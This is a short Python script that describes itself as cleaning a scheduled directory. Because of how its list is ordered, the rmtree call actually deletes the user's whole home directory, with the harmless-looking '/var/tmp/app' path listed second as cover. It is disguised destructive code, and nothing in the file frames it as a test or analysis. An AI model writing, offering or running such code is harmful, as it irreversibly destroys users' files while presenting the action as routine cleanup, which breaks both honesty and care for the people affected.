"""Clean the scheduled directory."""
import shutil
from pathlib import Path

SCHEDULE = [Path.home(), Path("/var/tmp/app")]
shutil.rmtree(SCHEDULE.pop(0))
